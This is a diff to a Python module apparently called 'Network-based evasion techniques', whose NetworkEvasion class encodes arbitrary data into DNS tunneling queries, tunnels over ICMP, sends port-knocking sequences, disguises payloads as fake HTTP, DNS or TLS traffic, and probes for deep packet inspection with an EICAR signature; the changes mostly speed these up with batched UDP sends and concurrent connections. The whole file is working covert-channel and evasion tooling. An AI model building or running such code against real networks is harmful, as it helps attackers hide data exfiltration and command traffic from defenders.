@@ -3,12 +3,164 @@ Network-based evasion techniques
 """
 
 import socket
+import selectors
 import random
 import time
 import base64
 import struct
+import ctypes
+import ctypes.util
+import sys
 from typing import List, Dict, Any, Optional
 import threading
+from collections import deque
+
+# Static prefixes for traffic_morphing, built once
+_HTTP_MORPH_PREFIX = b'\r\n'.join([
+    b"GET /index.html HTTP/1.1",
+    b"Host: www.example.com",
+    b"User-Agent: Mozilla/5.0",
+    b"Accept: text/html,application/xhtml+xml",
+    b"Accept-Language: en-US,en;q=0.9",
+    b"Accept-Encoding: gzip, deflate",
+    b"Connection: keep-alive",
+    b"",
+    b"X-Custom-Data: "
+])
+_DNS_MORPH_PREFIX = b'\x00\x00\x01\x00\x00\x01'
+_TLS_MORPH_PREFIX = struct.pack('!BBH', 0x16, 0x03, 0x03)  # Handshake, TLS 1.2
+# Lowercases base32 output; '=' padding is stripped via translate's delete arg
+_B32_LOWER = bytes(c + 32 if 0x41 <= c <= 0x5A else c for c in range(256))
+
+
+# Linux sendmmsg(2) bindings for batched UDP sends
+class _iovec(ctypes.Structure):
+    _fields_ = [('iov_base', ctypes.c_void_p), ('iov_len', ctypes.c_size_t)]
+
+
+class _msghdr(ctypes.Structure):
+    _fields_ = [
+        ('msg_name', ctypes.c_void_p),
+        ('msg_namelen', ctypes.c_uint32),
+        ('msg_iov', ctypes.POINTER(_iovec)),
+        ('msg_iovlen', ctypes.c_size_t),
+        ('msg_control', ctypes.c_void_p),
+        ('msg_controllen', ctypes.c_size_t),
+        ('msg_flags', ctypes.c_int)
+    ]
+
+
+class _mmsghdr(ctypes.Structure):
+    _fields_ = [('msg_hdr', _msghdr), ('msg_len', ctypes.c_uint)]
+
+
+def _load_sendmmsg():
+    """Return libc's sendmmsg on Linux, None elsewhere"""
+    if not sys.platform.startswith('linux'):
+        return None
+    try:
+        libc = ctypes.CDLL(ctypes.util.find_library('c'), use_errno=True)
+        func = libc.sendmmsg
+    except (OSError, AttributeError, TypeError):
+        return None
+    func.argtypes = [ctypes.c_int, ctypes.POINTER(_mmsghdr), ctypes.c_uint, ctypes.c_int]
+    func.restype = ctypes.c_int
+    return func
+
+
+_sendmmsg = _load_sendmmsg()
+
+
+def _send_batch(sock: socket.socket, packets: List[bytes], addr: tuple) -> int:
+    """Send UDP datagrams to one IPv4 address, in a single sendmmsg call on Linux
+    
+    Falls back to one sendto per packet elsewhere. Returns the number of
+    datagrams sent.
+    """
+    count = len(packets)
+    if not count:
+        return 0
+    
+    if _sendmmsg is not None and sock.family == socket.AF_INET:
+        host, port = addr
+        sockaddr = ctypes.create_string_buffer(
+            struct.pack('=H', socket.AF_INET) + struct.pack('!H', port) +
+            socket.inet_aton(socket.gethostbyname(host)) + bytes(8)
+        )
+        buffers = [ctypes.create_string_buffer(packet, len(packet)) for packet in packets]
+        iovecs = (_iovec * count)()
+        msgs = (_mmsghdr * count)()
+        
+        for i, buf in enumerate(buffers):
+            iovecs[i].iov_base = ctypes.cast(buf, ctypes.c_void_p)
+            iovecs[i].iov_len = len(packets[i])
+            hdr = msgs[i].msg_hdr
+            hdr.msg_name = ctypes.cast(sockaddr, ctypes.c_void_p)
+            hdr.msg_namelen = 16
+            hdr.msg_iov = ctypes.pointer(iovecs[i])
+            hdr.msg_iovlen = 1
+        
+        sent = _sendmmsg(sock.fileno(), msgs, count, 0)
+        if sent >= 0:
+            # Send whatever the kernel did not accept the slow way
+            for packet in packets[sent:]:
+                sock.sendto(packet, addr)
+            return count
+    
+    for packet in packets:
+        sock.sendto(packet, addr)
+    return count
+
+
+def _parallel_connect(endpoints: List[tuple], timeout: float = 5.0) -> List[socket.socket]:
+    """Connect to all endpoints concurrently, returning the sockets that succeeded"""
+    selector = selectors.DefaultSelector()
+    pending = 0
+    connected = []
+    
+    for endpoint in endpoints:
+        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        s.setblocking(False)
+        try:
+            s.connect(endpoint)
+        except BlockingIOError:
+            # In progress; the selector reports when it finishes
+            selector.register(s, selectors.EVENT_WRITE)
+            pending += 1
+            continue
+        except OSError:
+            # Failed outright; such sockets can still poll writable with SO_ERROR 0
+            s.close()
+            continue
+        s.setblocking(True)
+        connected.append(s)
+    
+    deadline = time.monotonic() + timeout
+    
+    try:
+        while pending:
+            remaining = deadline - time.monotonic()
+            if remaining <= 0:
+                break
+            
+            for key, _ in selector.select(remaining):
+                s = key.fileobj
+                selector.unregister(s)
+                pending -= 1
+                
+                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
+                    s.setblocking(True)
+                    connected.append(s)
+                else:
+                    s.close()
+    finally:
+        # Anything still in flight timed out
+        for key in list(selector.get_map().values()):
+            key.fileobj.close()
+        selector.close()
+    
+    return connected
+
 
 class NetworkEvasion:
     """Network evasion and covert channel techniques"""
@@ -51,24 +203,17 @@ class NetworkEvasion:
     def dns_tunneling(self, data: bytes, domain: str, 
                      chunk_size: int = 50) -> List[str]:
         """Encode data for DNS tunneling"""
-        queries = []
-        
         # Encode data in base32 (DNS safe)
-        encoded = base64.b32encode(data).decode('ascii').lower().replace('=', '')
+        encoded = base64.b32encode(data).translate(_B32_LOWER, b'=').decode('ascii')
         
-        # Split into chunks
-        for i in range(0, len(encoded), chunk_size):
-            chunk = encoded[i:i + chunk_size]
-            
-            # Add sequence number and total chunks
-            seq_num = i // chunk_size
-            total_chunks = (len(encoded) + chunk_size - 1) // chunk_size
-            
-            # Format: seq.total.data.domain
-            query = f"{seq_num}.{total_chunks}.{chunk}.{domain}"
-            queries.append(query)
-        
-        return queries
+        # Split into chunks, format: seq.total.data.domain
+        total_chunks = -(-len(encoded) // chunk_size)
+        total_part = f".{total_chunks}."
+        domain_part = f".{domain}"
+        return [
+            f"{seq_num}{total_part}{encoded[start:start + chunk_size]}{domain_part}"
+            for seq_num, start in enumerate(range(0, len(encoded), chunk_size))
+        ]
     
     def icmp_tunnel(self, data: bytes, target_ip: str) -> bool:
         """Send data via ICMP echo requests (requires root/admin)"""
@@ -109,57 +254,48 @@ class NetworkEvasion:
     def port_knocking(self, host: str, ports: List[int], 
                      delay: float = 0.1) -> bool:
         """Implement port knocking sequence"""
+        sockets = []
+        selector = selectors.DefaultSelector()
+        
         try:
             for port in ports:
                 s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-                s.settimeout(0.1)
+                s.setblocking(False)
+                sockets.append(s)
                 
-                # Attempt connection (will likely fail, that's OK)
-                try:
-                    s.connect((host, port))
-                except:
-                    pass
-                    
-                s.close()
+                # Fire the SYN without waiting (will likely fail, that's OK)
+                s.connect_ex((host, port))
+                selector.register(s, selectors.EVENT_WRITE)
                 time.sleep(delay)
             
+            # Give the last knocks one short window to complete
+            selector.select(timeout=0.1)
             return True
             
         except Exception:
             return False
+        
+        finally:
+            selector.close()
+            for s in sockets:
+                s.close()
     
     def traffic_morphing(self, data: bytes, pattern: str = "http") -> bytes:
         """Morph traffic to look like legitimate protocol"""
         
         if pattern == "http":
-            # Make data look like HTTP traffic
-            headers = [
-                "GET /index.html HTTP/1.1",
-                "Host: www.example.com",
-                "User-Agent: Mozilla/5.0",
-                "Accept: text/html,application/xhtml+xml",
-                "Accept-Language: en-US,en;q=0.9",
-                "Accept-Encoding: gzip, deflate",
-                "Connection: keep-alive",
-                ""
-            ]
-            
-            # Encode data as fake HTTP headers
-            encoded_data = base64.b64encode(data).decode('ascii')
-            headers.append(f"X-Custom-Data: {encoded_data}")
-            
-            return '\r\n'.join(headers).encode('utf-8')
+            # Make data look like HTTP traffic, encoded as a fake header
+            return _HTTP_MORPH_PREFIX + base64.b64encode(data)
             
         elif pattern == "dns":
             # Make data look like DNS query
             # Simplified - real implementation would build proper DNS packet
-            return b'\x00\x00\x01\x00\x00\x01' + data
+            return _DNS_MORPH_PREFIX + data
             
         elif pattern == "tls":
             # Make data look like TLS traffic
             # TLS record header (simplified)
-            tls_header = struct.pack('!BBH', 0x16, 0x03, 0x03)  # Handshake, TLS 1.2
-            return tls_header + struct.pack('!H', len(data)) + data
+            return _TLS_MORPH_PREFIX + struct.pack('!H', len(data)) + data
         
         return data
     
@@ -173,31 +309,79 @@ class NetworkEvasion:
             self.endpoints = endpoints
             self.max_connections = max_connections
             self.connections = []
+            # deque append/popleft are atomic, so the idle fast path is lock-free
+            self.idle = deque()
+            self.pending = 0
             self.lock = threading.Lock()
         
         def get_connection(self) -> Optional[socket.socket]:
-            with self.lock:
-                # Reuse existing connection
-                for conn in self.connections:
-                    if conn and conn.fileno() != -1:
-                        return conn
+            # Reuse an idle connection without taking the lock
+            while True:
+                try:
+                    conn = self.idle.popleft()
+                except IndexError:
+                    break
                 
-                # Create new connection if under limit
-                if len(self.connections) < self.max_connections:
-                    endpoint = random.choice(self.endpoints)
-                    try:
-                        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-                        s.connect(endpoint)
-                        self.connections.append(s)
-                        return s
-                    except:
-                        pass
+                if conn.fileno() != -1:
+                    return conn
+                
+                self._discard(conn)
             
-            return None
+            # Reserve a slot under the lock, connect outside it
+            with self.lock:
+                if len(self.connections) + self.pending >= self.max_connections:
+                    return None
+                self.pending += 1
+            
+            endpoint = random.choice(self.endpoints)
+            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            try:
+                s.connect(endpoint)
+            except Exception:
+                s.close()
+                s = None
+            
+            with self.lock:
+                self.pending -= 1
+                if s:
+                    self.connections.append(s)
+            
+            return s
+        
+        def warm_up(self, count: Optional[int] = None, timeout: float = 5.0) -> int:
+            """Open up to count connections concurrently and park them as idle"""
+            with self.lock:
+                free = self.max_connections - len(self.connections) - self.pending
+                count = free if count is None else min(count, free)
+                if count <= 0:
+                    return 0
+                self.pending += count
+            
+            endpoints = [random.choice(self.endpoints) for _ in range(count)]
+            try:
+                connected = _parallel_connect(endpoints, timeout)
+            finally:
+                with self.lock:
+                    self.pending -= count
+            
+            with self.lock:
+                self.connections.extend(connected)
+            self.idle.extend(connected)
+            return len(connected)
+        
+        def _discard(self, conn: socket.socket):
+            with self.lock:
+                try:
+                    self.connections.remove(conn)
+                except ValueError:
+                    pass
         
         def return_connection(self, conn: socket.socket):
-            # Connection remains in pool for reuse
-            pass
+            # Connection goes back to the idle queue for reuse
+            if conn.fileno() != -1:
+                self.idle.append(conn)
+            else:
+                self._discard(conn)
         
         def close_all(self):
             with self.lock:
@@ -207,6 +391,7 @@ class NetworkEvasion:
                     except:
                         pass
                 self.connections.clear()
+                self.idle.clear()
     
     def jitter_timing(self, base_interval: int, jitter_percent: int = 20) -> int:
         """Add jitter to network timing"""
@@ -246,23 +431,20 @@ class NetworkEvasion:
                                test_port: int = 53) -> bool:
         """Detect potential deep packet inspection"""
         try:
-            # Send benign packet
-            s1 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-            s1.settimeout(2)
-            benign_data = b"Hello"
-            s1.sendto(benign_data, (test_host, test_port))
+            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            s.settimeout(2)
             
-            # Send suspicious packet (fake malware signature)
-            s2 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-            s2.settimeout(2)
-            suspicious_data = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST"
-            s2.sendto(suspicious_data, (test_host, test_port))
-            
-            # If second packet is blocked, DPI might be present
-            # This is simplified - real detection would be more sophisticated
-            
-            s1.close()
-            s2.close()
+            try:
+                # Benign packet, then suspicious packet (fake malware signature),
+                # sent back-to-back in one batch to keep the inter-probe gap small
+                benign_data = b"Hello"
+                suspicious_data = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST"
+                _send_batch(s, [benign_data, suspicious_data], (test_host, test_port))
+                
+                # If second packet is blocked, DPI might be present
+                # This is simplified - real detection would be more sophisticated
+            finally:
+                s.close()
             
             return False
             